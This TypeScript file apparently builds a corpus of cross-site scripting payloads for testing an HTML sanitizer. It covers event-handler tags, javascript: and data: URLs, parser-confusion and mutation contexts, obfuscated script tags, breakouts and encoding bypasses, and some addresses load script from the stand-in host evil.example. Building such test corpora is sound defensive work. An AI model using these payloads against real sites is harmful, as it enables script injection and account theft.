/** What a payload runs. The browser of the attack defines it, and reports each call. */
const code = '__pwn()';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onpointerover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
];
/** Elements for which a handler runs without a click, with what they need for it. */
const tags: readonly string[] = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'marquee',
  'p tabindex=1 autofocus',
  'math',
  'style',
  'link rel=stylesheet href=x',
  'button autofocus',
  'select autofocus',
  'textarea autofocus',
  'x-y tabindex=1 autofocus',
  'dialog open',
];
/** What browsers accept between a tag's name and an attribute. */
const separators = [' ', '/', '\t', '\n', '\f', ' / ', ' x=">" '];

const schemes = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  `\u0001javascript:${code}`,
  ` javascript:${code}`,
  `javascript\u0009:${code}`,
  `&#106;&#97;&#118;ascript:${code}`,
  `&#x6A;avascript&colon;${code}`,
  `java&Tab;script:${code}`,
  `javascript&#0000058${code}`,
  `javascript://%0a${code}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${code}>*/${code}`,
  `vbscript:${code}`,
  `data:text/html,<script>parent.${code}</script>`,
  'data:text/html;base64,PHNjcmlwdD5fX3B3bigpPC9zY3JpcHQ+',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `data:,${code}`,
  'blob:https://a.example/1',
  `view-source:javascript:${code}`,
  `feed:javascript:${code}`,
  '//evil.example/x.js',
  String.raw`\\evil.example\x.js`,
  'https:evil.example/x.js',
  'https://site.example@evil.example/x.js',
];

/** Places of an address. `%` is the address. */
const places = [
  '<a href="%">x</a>',
  "<a href='%'>x</a>",
  '<a href=%>x</a>',
  '<img src="%">',
  '<img srcset="% 2x" src="/a.png">',
  '<iframe src="%"></iframe>',
  '<object data="%"></object>',
  '<embed src="%">',
  '<form action="%"><input type=submit autofocus></form>',
  '<button formaction="%">x</button>',
  '<svg><a xlink:href="%"><text>x</text></a></svg>',
  '<svg><use href="%"/></svg>',
  '<svg><animate attributeName=href values="%"/></svg>',
  '<math href="%">x</math>',
  '<base href="%">',
  '<link rel=import href="%">',
  '<meta http-equiv=refresh content="0;url=%">',
  '<video poster="%"><source src="%"></video>',
  '<table background="%"><td background="%">',
  '<blockquote cite="%">x</blockquote>',
  '<p style="background:url(%)">x</p>',
  '<script src="%"></script>',
];

const run = `<img src=x onerror=${code}>`;

/** Elements whose content parsers read in different ways. `%` is what a parser may take out of them. */
const contexts = [
  '<noscript><p title="</noscript>%">',
  '<title><p title="</title>%">',
  '<textarea><p title="</textarea>%">',
  '<xmp><p title="</xmp>%">',
  '<style><p title="</style>%">',
  '<noembed><p title="</noembed>%">',
  '<noframes><p title="</noframes>%">',
  '<iframe><p title="</iframe>%">',
  '<plaintext>%',
  '<template>%</template>',
  '<template><template></template>%</template>',
  '<svg><style>%</style></svg>',
  '<svg><title>%</title></svg>',
  '<svg><desc>%</desc></svg>',
  '<svg><foreignObject>%</foreignObject></svg>',
  '<svg><textarea>%</textarea></svg>',
  '<svg></p><style><a id="</style>%">',
  '<math><mtext><table><mglyph><style><!--</style>%',
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><mi><mglyph><svg><mtext><style><path id="</style>%">',
  '<form><math><mtext></form><form><mglyph><style></math>%',
  '<select><template>%</template></select>',
  '<select><iframe></select>%',
  '<table><tr><td><select>%',
  '<!-->%-->',
  '<!--->%-->',
  '<!-- --!>%-->',
  '<!-- <!-- -->%-->',
  '<![CDATA[%]]>',
  '<?xml %?>',
  '<!DOCTYPE x [<!ENTITY y "%">]>&y;',
  '</p %>',
  '<p %>',
  '<p title=`%`>',
  '<p title="`><%">',
  "<a title='\">%'>x</a>",
  '<img alt="x\0y" title="%">',
  '<code>&lt;</code>%',
  '<p>&lt;img src=x onerror=__pwn()&gt;%</p>',
  '<a\u00A0href="/">%</a>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwn()</x:script>%',
];

/** Scripts, in all the ways to write and to hide the tag. */
const scripts = [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT>`,
  `<ScRiPt >${code}</ScRiPt >`,
  `<script\n>${code}</script\t>`,
  `<script/x>${code}</script/x>`,
  `<script type=module>${code}</script>`,
  `<script type=text/javascript src=//evil.example></script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<scr\0ipt>${code}</scr\0ipt>`,
  `<script>${code}`,
  `<script>${code}//`,
  `<<script>${code}//<</script>`,
  `<script><!--\n${code}\n--></script>`,
  `</script><script>${code}</script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:,${code}"/></svg>`,
  `<script>/*<p>*/${code}</script>`,
  `<noscript></noscript><script>${code}</script>`,
  `\uFF1Cscript\uFF1E${code}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
];

/** What ends the place of a text: an attribute, an element, a script's string, a comment, a template. */
const breakouts = [
  '"><%',
  "'><%",
  '`><%',
  '</title><%',
  '</textarea><%',
  '</script><%',
  '</style><%',
  '--><%',
  ']]><%',
  '\\"><%',
  '&quot;&gt;<%',
  '" onfocus="__pwn()" autofocus x="',
  "' onfocus='__pwn()' autofocus x='",
  '";__pwn();//',
  "';__pwn();//",
  '\\u003cimg src=x onerror=__pwn()\\u003e',
  '\u2028__pwn()\u2029',
  '${__pwn()}',
  '{{constructor.constructor("__pwn()")()}}',
  '<%= __pwn() %>',
  '#{__pwn()}',
  'javascript:__pwn()',
  '{"__html":"<img src=x onerror=__pwn()>"}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__pwn()>"}}',
  '[object Object]<img src=x onerror=__pwn()>',
].map((text) => text.replace('<%', run));

const toEntities = (text: string): string => [...text].map((letter) => `&#${letter.codePointAt(0) ?? 0};`).join('');
const toHexEntities = (text: string): string =>
  [...text].map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16)}`).join('');
const toEscapes = (text: string): string =>
  [...text].map((letter) => String.raw`\u${(letter.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`).join('');

/** Ways to write a payload so that a decoder that runs once too often makes it work again. */
const encodings: readonly ((text: string) => string)[] = [
  toEntities,
  toHexEntities,
  toEscapes,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;'),
  (text) => text.replaceAll('<', '&LT;').replaceAll('>', '&GT'),
  (text) => text.toUpperCase().replaceAll('__PWN', '__pwn'),
];

const spread = (index: number, list: readonly string[]): string => list[index % list.length] ?? '';

/** Addresses that run or load something. */
export const hostileAddresses: readonly string[] = schemes;

/** The stored scripts: each tag with each handler, each address in each place, and each way to hide them. */
export const payloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...tags.flatMap((tag, row) =>
      handlers.map((handler, column) => `<${tag}${spread(row + column, separators)}${handler}=${code}>`),
    ),
    ...places.flatMap((place, row) =>
      schemes
        // Every address is in every fifth place, so all pairs of neighbours occur without thousands of payloads.
        .filter((_, column) => (row + column) % 5 === 0 || place.startsWith('<a '))
        .map((address) => place.replaceAll('%', address)),
    ),
    ...contexts.map((context) => context.replaceAll('%', run)),
    ...breakouts,
    ...[scripts[0] ?? '', run, '<svg onload=__pwn()>', `<a href="javascript:${code}">x</a>`].flatMap((payload) =>
      encodings.map((encode) => encode(payload)),
    ),
  ]),
];
